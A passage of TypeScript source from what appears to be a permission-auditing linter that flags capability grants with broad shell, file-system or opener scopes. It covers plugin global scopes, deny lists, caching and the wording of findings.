  const lenders: Array<ReadonlySet<string>> = [];
  const lent: Array<{ at: number; entries: ReadonlyMap<string, EntryProvenance> }> = [];
  // The grants the broad scope reaches, in order: a command granted without it (a scopeless spawn
  // beside a scoped execute) is not dangerous.
  const reached: number[] = [];
  if (danger.broad) {
    // Hits in the order the host hands them to a command: each grant's own scope, then the
    // plugin's global scope (one shared set per plugin, so this stays linear in the number of grants).
    // Only collections that name something, and a shared global set once: `quotedUnion` lists the
    // same names from them.
    const matches: Array<Iterable<string>> = [];
    const globalsListed: Array<ReadonlySet<string>> = [];
    // A leaf's grants (one per command, and per context for a model's entries) share its provenance,
    // scope and plugin: what one of them adds below, the others add again. So each such leaf is judged once.
    const judgedLeaves = new Map<
      EntryProvenance,
      { scope: GrantedLeaf["scope"]; key: string; hit: boolean }
    >();
    for (let i = 0; i < effective.length; i++) {
      const grant = effective[i]!;
      const before = judgedLeaves.get(grant.provenance);
      if (before && before.scope === grant.scope && before.key === grant.key) {
        if (before.hit) reached.push(i);
        continue;
      }
      const { own, global } = broadScope(model, danger, grant, globalHits);
      // A shell entry whose program cannot run on any of the capability's platforms grants nothing there.
      const hit =
        (own.length > 0 || global.matches.size > 0) &&
        (danger.id !== "shell" || runsSomewhere(model, grant, platforms));
      if (!before) judgedLeaves.set(grant.provenance, { scope: grant.scope, key: grant.key, hit });
      if (!hit) continue;
      reached.push(i);
      if (own.length > 0) matches.push(own);
      if (global.matches.size > 0 && !globalsListed.includes(global.matches)) {
        globalsListed.push(global.matches);
        matches.push(global.matches);
      }
      if (global.lenders.size > 0 && !lenders.includes(global.lenders))
        lenders.push(global.lenders);
      commandLine ||=
        global.commandLine ||
        (danger.id === "shell" && (grant.scope?.allow ?? []).some(anyCommandLine));
      // Only when the grant's own scope is not broad: then the broad value is another entry's doing.
      if (own.length === 0 && global.entries.size > 0)
        lent.push({ at: reached.length - 1, entries: global.entries });
    }
    if (reached.length === 0) return undefined;
    matchesText = quotedUnion(matches);
  } else for (let i = 0; i < effective.length; i++) reached.push(i);
  const commands: string[] = [];
  for (let i = 0; i < reached.length; i++) {
    const command = effective[reached[i]!]!.command;
    if (!commands.includes(command)) commands.push(command);
  }
  return { danger, reached, commands, matches: matchesText, lenders, lent, commandLine };
}

/**
 * A capability's finding of a judgement: `reached` are its own grants at the judgement's sites. What
 * names the capability is worded here: its entry the finding points at (one it does not list is not
 * reported), its own entry that brings the broad scope, and the other capabilities that lend it.
 */
function wordJudgement(
  judgement: Judgement,
  capability: Capability,
  capabilityIndex: number,
  reached: ReachedGrants,
): DangerousGrant | undefined {
  const first = reached.at(0);
  // A grant whose entry the capability does not list (it cannot be pointed at) is not reported.
  if (!listsEntryAt(capability, first.provenance.path)) return undefined;
  /** The entry of this capability that brings the broad value, when it is not the grant itself (an `fs:scope` entry). */
  let scopeEntry: EntryProvenance | undefined;
  for (let i = 0; i < judgement.lent.length && !scopeEntry; i++) {
    const { at, entries } = judgement.lent[i]!;
    const lending = entries.get(capability.identifier);
    if (lending && !samePath(lending.path, reached.at(at).provenance.path)) scopeEntry = lending;
  }
  let reach = judgement.matches;
  if (judgement.danger.broad) {
    const lent = quotedUnion(judgement.lenders, capability.identifier);
    if (lent)
      reach += ` (through the plugin's global scope, which capability ${lent} sets for every window)`;
  }
  const found: DangerousGrant = {
    danger: judgement.danger,
    capability,
    capabilityIndex,
    grant: first,
    grants: reached.all,
    commands: judgement.commands,
    at: entryPath(capability, (scopeEntry ?? first.provenance).path),
    reach,
    commandLine: judgement.commandLine,
    judgement,
  };
  if (scopeEntry) found.scopeEntry = scopeEntry;
  return found;
}

function listsEntryAt(capability: Capability, path: JsonPath): boolean {
  const entries = capability.permissions;
  for (let i = 0; i < entries.length; i++) if (entryIsAt(entries[i]!, path)) return true;
  return false;
}

/** The broad values of a plugin's global scope and the capabilities that set them. */
interface GlobalHits {
  matches: ReadonlySet<string>;
  lenders: ReadonlySet<string>;
  /** The first entry of each capability that brings a broad value. */
  entries: ReadonlyMap<string, EntryProvenance>;
  /** A shell entry among them runs any command line. */
  commandLine: boolean;
}

/**
 * What every grant of a plugin shares, computed once per resolution: per danger, the global hits of
 * each plugin; per plugin, its global deny values made canonical; per danger, the broad values of each
 * command scope (one scope object serves every command and context of a leaf).
 */
interface GlobalHitCache {
  hits: Map<Danger, Map<string, GlobalHits>>;
  deniedByKey: Map<string, ReadonlySet<string>>;
  /** Per danger and plugin: the own hits of a command scope depend on that plugin's global deny list. */
  ownHits: Map<Danger, Map<string, WeakMap<ScopeLists, string[]>>>;
}

const globalHitCaches = new WeakMap<ResolvedModel, GlobalHitCache>();

/** One cache per model: its per-platform pass and a later model's comparison share it. */
function globalHitCacheOf(model: ResolvedModel): GlobalHitCache {
  // The lookup alone (inlined into judgeDanger's optimised code); the making runs once per model.
  return globalHitCaches.get(model) ?? newGlobalHitCache(model);
}

function newGlobalHitCache(model: ResolvedModel): GlobalHitCache {
  const cache: GlobalHitCache = { hits: new Map(), deniedByKey: new Map(), ownHits: new Map() };
  globalHitCaches.set(model, cache);
  return cache;
}

const NO_HITS: string[] = [];

/**
 * The broad values a grant's command is handed: its command scope plus the plugin's global scope.
 * Global scope values say which capability set them: the host shares them with every window. A value
 * that the command scope or the global scope also denies grants nothing (deny wins).
 */
function broadScope(
  model: ResolvedModel,
  danger: Danger,
  grant: GrantedLeaf,
  cache: GlobalHitCache,
): { own: string[]; global: GlobalHits } {
  const ownDeny = grant.scope?.deny ?? [];
  const globalDenied = globalDenyOf(model, grant.key, cache);
  const ownDenied = ownDeny.length ? new Set(ownDeny.map(canonical)) : undefined;
  let own = NO_HITS;
  if (grant.scope && grant.scope.allow.length) {
    let byKey = cache.ownHits.get(danger);
    if (!byKey)
      cache.ownHits.set(danger, (byKey = new Map<string, WeakMap<ScopeLists, string[]>>()));
    let byScope = byKey.get(grant.key);
    if (!byScope) byKey.set(grant.key, (byScope = new WeakMap()));
    const known = byScope.get(grant.scope);
    if (known) own = known;
    else {
      // The scope's broad values are judged once per run (`scopeHitsOf`); a model filters them by its deny lists.
      own = [];
      const filtered = globalDenied.size > 0 || ownDenied !== undefined;
      const hits = scopeHitsOf(danger, grant.scope);
      for (let i = 0; i < hits.length; i++) {
        const hit = hits[i]!;
        if (!filtered || notDenied(keyOf(hit), globalDenied, ownDenied)) own.push(hit.hit);
      }
      byScope.set(grant.scope, own);
    }
  }
  return { own, global: globalHitsOf(model, danger, grant.key, cache, ownDenied) };
}

/**
 * The plugin's global deny list grows with the app: made once per plugin and model, not per grant,
 * from each contribution's values made canonical once (`canonicalDenies`), not once per model.
 */
function globalDenyOf(
  model: ResolvedModel,
  key: string,
  cache: GlobalHitCache,
): ReadonlySet<string> {
  // The lookup alone: judgeDanger asks per grant and the optimiser inlines this into it; the walk
  // of the contributions (iterator loops) runs once per plugin and model, in its own function.
  return cache.deniedByKey.get(key) ?? makeGlobalDeny(model, key, cache);
}

function makeGlobalDeny(model: ResolvedModel, key: string, cache: GlobalHitCache): Set<string> {
  const made = new Set<string>();
  for (const contribution of model.globalScope.get(key)?.contributions ?? [])
    for (const value of canonicalDenies(contribution.scope)) made.add(value);
  cache.deniedByKey.set(key, made);
  return made;
}

/** A scope's deny values made canonical; one scope object serves every platform model that has its entry. */
function canonicalDenies(scope: ScopeLists): readonly string[] {
  if (scope.deny.length === 0) return NO_HITS;
  let denies = deniesOfScope.get(scope);
  if (!denies) deniesOfScope.set(scope, (denies = scope.deny.map(canonical)));
  return denies;
}

const deniesOfScope = new WeakMap<ScopeLists, readonly string[]>();

/** A broad value of a scope: what it matches, its canonical JSON (to test denials) and whether it runs any command line. */
interface ScopeHit {
  /** The value as written. */
  value: unknown;
  hit: string;
  /** Its canonical JSON, made on first use (`keyOf`): only deny lists and the wording compare values. */
  key: string | undefined;
  commandLine: boolean;
}

function keyOf(hit: ScopeHit): string {
  return (hit.key ??= canonical(hit.value));
}

/**
 * The broad values of a global scope contribution for a danger, judged once per scope object: the
 * platform models that share the contribution (every model but those its capability or permission is
 * not on) share the judgement, and each model only filters it by its own deny list.
 */
function scopeHitsOf(danger: Danger, scope: ScopeLists): readonly ScopeHit[] {
  const broad = danger.broad!;
  let byScope = hitsOfScope.get(broad);
  if (!byScope) hitsOfScope.set(broad, (byScope = new WeakMap()));
  let hits = byScope.get(scope);
  if (!hits) {
    const made: ScopeHit[] = [];
    const allow = scope.allow;
    for (let i = 0; i < allow.length; i++) {
      const value = allow[i];
      work.scopeValues++;
      const hit = broad(value);
      if (hit === undefined) continue;
      made.push({
        value,
        hit,
        key: undefined,
        commandLine: danger.id === "shell" && anyCommandLine(value),
      });
    }
    byScope.set(scope, (hits = made));
  }
  return hits;
}

/**
 * By the dangers' broad test (fs-write, fs-read and opener-path share one): only the shell's hits say
 * whether a value runs any command line, and its test is its own.
 */
const hitsOfScope = new WeakMap<
  NonNullable<Danger["broad"]>,
  WeakMap<ScopeLists, readonly ScopeHit[]>
>();

/** Whether a value (its canonical key) is denied by neither list. */
function notDenied(
  key: string,
  globalDenied: ReadonlySet<string>,
  ownDenied: ReadonlySet<string> | undefined,
): boolean {
  return !globalDenied.has(key) && !ownDenied?.has(key);
}

/** The broad values of a plugin's global scope for a danger; a grant's own deny list filters them for that grant only (computed apart, and rare). */
function globalHitsOf(
  model: ResolvedModel,
  danger: Danger,
  key: string,
  cache: GlobalHitCache,
  ownDenied?: ReadonlySet<string>,
): GlobalHits {
  let byKey = cache.hits.get(danger);
  if (!byKey) cache.hits.set(danger, (byKey = new Map<string, GlobalHits>()));
  const known = ownDenied ? undefined : byKey.get(key);
  if (known) return known;
  work.lentScopesJudged++;
  const globalDenied = globalDenyOf(model, key, cache);
  const filtered = globalDenied.size > 0 || ownDenied !== undefined;
  const matches = new Set<string>();
  const lenders = new Set<string>();
  const entries = new Map<string, EntryProvenance>();
  let commandLine = false;
  const contributions = model.globalScope.get(key)?.contributions ?? NO_CONTRIBUTIONS_OF_SCOPE;
  for (let c = 0; c < contributions.length; c++) {
    const contribution = contributions[c]!;
    const hits = scopeHitsOf(danger, contribution.scope);
    for (let h = 0; h < hits.length; h++) {
      const scopeHit = hits[h]!;
      if (filtered) {
        const valueKey = keyOf(scopeHit);
        if (globalDenied.has(valueKey) || ownDenied?.has(valueKey)) continue;
      }
      matches.add(scopeHit.hit);
      commandLine ||= scopeHit.commandLine;
      if (contribution.provenance.capability !== undefined) {
        lenders.add(contribution.provenance.capability);
        if (!entries.has(contribution.provenance.capability))
          entries.set(contribution.provenance.capability, contribution.provenance);
      }
    }
  }
  const global = { matches, lenders, entries, commandLine };
  if (!ownDenied) byKey.set(key, global);
  return global;
}

/**
 * Hands model `to` what model `from` is lent for a danger (the global hits, the deny lists, the own
 * hits filtered by them) when both have the same lending and denying contributions: equal values,
 * judged once. Whatever `to` worked out already stays.
 */
function shareLent(
  from: ResolvedModel,
  to: ResolvedModel,
  danger: Danger,
  keys: readonly string[],
): void {
  const [source, target] = [globalHitCacheOf(from), globalHitCacheOf(to)];
  let hits = target.hits.get(danger);
  if (!hits) target.hits.set(danger, (hits = new Map<string, GlobalHits>()));
  let ownFrom = source.ownHits.get(danger);
  if (!ownFrom)
    source.ownHits.set(danger, (ownFrom = new Map<string, WeakMap<ScopeLists, string[]>>()));
  let ownTo = target.ownHits.get(danger);
  if (!ownTo)
    target.ownHits.set(danger, (ownTo = new Map<string, WeakMap<ScopeLists, string[]>>()));
  for (const key of keys) {
    if (!target.deniedByKey.has(key)) target.deniedByKey.set(key, globalDenyOf(from, key, source));
    if (!hits.has(key)) hits.set(key, globalHitsOf(from, danger, key, source));
    if (!ownTo.has(key)) {
      let own = ownFrom.get(key);
      if (!own) ownFrom.set(key, (own = new WeakMap()));
      ownTo.set(key, own);
    }
  }
}

/** Whether two models' global scopes of a plugin lend a danger's grants the same: the same deny list, and the same broad values and lenders. */
function sameLending(a: ResolvedModel, b: ResolvedModel, danger: Danger, key: string): boolean {
  const [cacheA, cacheB] = [globalHitCacheOf(a), globalHitCacheOf(b)];
  const [deniedA, deniedB] = [globalDenyOf(a, key, cacheA), globalDenyOf(b, key, cacheB)];
  if (deniedA.size !== deniedB.size || [...deniedA].some((value) => !deniedB.has(value)))
    return false;
  return sameGlobalHits(globalHitsOf(a, danger, key, cacheA), globalHitsOf(b, danger, key, cacheB));
}

/** Equal global hits, order included (messages name the first few). */
function sameGlobalHits(a: GlobalHits, b: GlobalHits): boolean {
  const sameOrder = <T>(x: Iterable<T>, y: Iterable<T>) => {
    const other = y[Symbol.iterator]();
    for (const item of x) if (other.next().value !== item) return false;
    return other.next().done === true;
  };
  return (
    a === b ||
    (a.commandLine === b.commandLine &&
      a.matches.size === b.matches.size &&
      a.lenders.size === b.lenders.size &&
      a.entries.size === b.entries.size &&
      sameOrder(a.matches, b.matches) &&
      sameOrder(a.lenders, b.lenders) &&
      sameOrder(a.entries.values(), b.entries.values()) &&
      sameOrder(a.entries.keys(), b.entries.keys()))
  );
}

/** JSON with sorted keys, so equal scope values compare equal whatever their key order. */
function canonical(value: unknown): string {
  // Most scope values are a string or one flat object whose keys are in order ({ path }, { url }):
  // their JSON is the canonical one already, without the sorted copy.
  if (typeof value === "string" || isFlatSorted(value)) return JSON.stringify(value);
  return JSON.stringify(sortMapKeys(value));
}

/** A plain object whose keys are in code point order and whose values are strings, numbers or booleans. */
function isFlatSorted(value: unknown): boolean {
  if (!isPlainObject(value)) return false;
  let before: string | undefined;
  for (const key in value) {
    if (!Object.hasOwn(value, key)) return false;
    const item = value[key];
    if (typeof item !== "string" && typeof item !== "number" && typeof item !== "boolean")
      return false;
    if (before !== undefined && compareCodePoints(before, key) >= 0) return false;
    before = key;
  }
  return true;
}

/**
 * The distinct names of several collections, in order, quoted: the first few and how many more, so a
 * message stays one line and costs the same however many capabilities share a global scope.
 */
function quotedUnion(
  collections: ReadonlyArray<Iterable<string>>,
  except?: string,
  shown = 5,
): string {
  // A collection given twice names nothing new, so they are not made distinct first. Counted exactly
  // without copying the largest collection (the shared global scope): the others are a grant's few values.
  let largest: ReadonlySet<string> | undefined;
  for (let c = 0; c < collections.length; c++) {
    const collection = collections[c]!;
    if (collection instanceof Set && collection.size > (largest?.size ?? 0)) largest = collection;
  }
  let total = largest ? largest.size - (except !== undefined && largest.has(except) ? 1 : 0) : 0;
  let extra: Set<string> | undefined;
  for (let c = 0; c < collections.length; c++) {
    const collection = collections[c]!;
    if (collection === largest) continue;
    for (const name of collection)
      if (name !== except && !largest?.has(name)) (extra ??= new Set<string>()).add(name);
  }
  total += extra?.size ?? 0;
  let quoted = "";
  let named = 0;
  const names: string[] = [];
  walk: for (let c = 0; c < collections.length; c++) {
    for (const name of collections[c]!) {
      if (named === shown) break walk;
      if (name !== except && !names.includes(name)) {
        names.push(name);
        quoted += named++ === 0 ? `"${name}"` : `, "${name}"`;
      }
    }
  }
  return total > shown ? `${quoted} and ${total - shown} more` : quoted;
}

/**
 * Why a grant is worse here: remote pages or every window; undefined for trusted local windows. Remote
 * patterns that reach loopback hosts only (a dev server on `http://localhost:*`) are the machine's own
 * pages, as insecure-remote and broad-remote judge them.
 */
function exposureOf(capability: Capability, tools: RemotePatternTools): Exposure | undefined {
  const urls = (capability.remote?.urls ?? []).filter(
    (url) => !urlReach(tools.URLPattern, url.value)?.loopbackOnly,
  );
  if (urls.length) return { kind: "remote", urls: urls.map((url) => url.value) };
  for (const item of capability.windows) if (item.value === "*") return { kind: "every-window" };
  for (const item of capability.webviews) if (item.value === "*") return { kind: "every-window" };
  return undefined;
}

/** Most values a finding is re-read with: a shared global scope can be large, and a message needs few. */
const MAX_VALUES = 256;

/**
 * The broad scope values behind a finding, as written (its grants' own scopes, then the plugin's
 * global scope), for a rule that words where they hold: which programs, which paths.
 */
export function broadValues(model: ResolvedModel, found: DangerousGrant): readonly unknown[] {
  if (!found.danger.broad) return [];
  // The findings of one judgement (copies of a capability) have grants of the same content: their
  // values are read once, not once per copy's scope objects.
  const known = valuesOfJudgement.get(found.judgement);
  if (known?.model === model) return known.values;
  const values = broadValuesOf(model, found);
  valuesOfJudgement.set(found.judgement, { model, values });
  return values;
}

const valuesOfJudgement = new WeakMap<
  Judgement,
  { model: ResolvedModel; values: readonly unknown[] }
>();

function broadValuesOf(model: ResolvedModel, found: DangerousGrant): readonly unknown[] {
  const seen = new Set<string>();
  const values: unknown[] = [];
  // A leaf's grants (one per command and context) share one scope object: its values are read once,
  // and a scope's broad values were judged once for the whole run (`scopeHitsOf`), not per finding.
  // They come one after another (a leaf's commands, then its contexts): the set is made for a second scope.
  let last: ScopeLists | undefined;
  let read: Set<ScopeLists> | undefined;
  for (const { scope } of found.grants()) {
    if (!scope || scope === last) continue;
    if (last !== undefined) {
      read ??= new Set([last]);
      if (read.has(scope)) {
        last = scope;
        continue;
      }
      read.add(scope);
    }
    last = scope;
    for (const hit of scopeHitsOf(found.danger, scope)) {
      if (values.length >= MAX_VALUES) return values;
      const key = keyOf(hit);
      if (seen.has(key)) continue;
      seen.add(key);
      values.push(hit.value);
    }
  }
  // Findings with the same broad values of their own (most have none) are lent the same ones too: one
  // list per model, danger and own values, so the wording made from it can be shared as well.
  let byOwn = valueLists.get(model);
  if (!byOwn) valueLists.set(model, (byOwn = new Map<string, readonly unknown[]>()));
  const memo = `${found.danger.id}\u0001${[...seen].join("\u0001")}`;
  const known = byOwn.get(memo);
  if (known) return known;
  // The global scope is shared by every finding of the danger: its distinct broad values are made once
  // per model, and a finding walks no more of them than its message can use.
  for (const { key, value } of globalBroadValues(model, found.danger)) {
    work.scopeValues++;
    if (values.length >= MAX_VALUES) break;
    if (seen.has(key)) continue;
    seen.add(key);
    values.push(value);
  }
  byOwn.set(memo, values);
  return values;
}

/** Per model, the values `broadValues` made, by danger and the canonical keys of the finding's own broad values (JSON escapes U+0001). */
const valueLists = new WeakMap<ResolvedModel, Map<string, readonly unknown[]>>();

/** A scope value with its canonical JSON, the key equal values share. */
interface KeyedValue {
  key: string;
  value: unknown;
}

/** The distinct broad values of a danger's global scopes in a model, in order, each with its canonical key. */
function globalBroadValues(model: ResolvedModel, danger: Danger): readonly KeyedValue[] {
  let byDanger = globalBroad.get(model);
  if (!byDanger) globalBroad.set(model, (byDanger = new Map<Danger, readonly KeyedValue[]>()));
  let distinct = byDanger.get(danger);
  if (distinct) return distinct;
  const keys = new Set<string>();
  const made: KeyedValue[] = [];
  // A global scope's values are its contributions' in turn, and each contribution's broad values and
  // their keys were judged once for every model (`scopeHitsOf`, `keyOf`).
  for (const scopeKey of KEYS_OF.get(danger)!)
    for (const { scope } of model.globalScope.get(scopeKey)?.contributions ?? NO_CONTRIBUTIONS)
      for (const hit of scopeHitsOf(danger, scope)) {
        const key = keyOf(hit);
        if (keys.has(key)) continue;
        keys.add(key);
        made.push({ key, value: hit.value });
      }
  byDanger.set(danger, (distinct = made));
  return distinct;
}

const globalBroad = new WeakMap<ResolvedModel, Map<Danger, readonly KeyedValue[]>>();

const NO_CONTRIBUTIONS: ReadonlyArray<{ scope: ScopeLists }> = [];
const NO_CONTRIBUTIONS_OF_SCOPE: readonly GlobalScopeContribution[] = [];

/** Whether some shell entry the grant is handed can run on a platform of its capability (`cmd` off Windows cannot; nothing runs on Android or iOS). */
function runsSomewhere(
  model: ResolvedModel,
  grant: GrantedLeaf,
  platforms: readonly string[],
): boolean {
  if ((grant.scope?.allow ?? []).some((value) => programPlatforms(value, platforms).length > 0))
    return true;
  // The global scope is shared by every grant: judged once per model, plugin and set of platforms, so this stays linear.
  let byKey = globalRunnable.get(model);
  if (!byKey) globalRunnable.set(model, (byKey = new Map<string, boolean>()));
  const memo = `${grant.key}\u0000${platforms.join(",")}`;
  let runnable = byKey.get(memo);
  if (runnable === undefined)
    byKey.set(
      memo,
      (runnable = (model.globalScope.get(grant.key)?.allow ?? []).some(
        (value) => programPlatforms(value, platforms).length > 0,
      )),
    );
  return runnable;
}

const globalRunnable = new WeakMap<ResolvedModel, Map<string, boolean>>();
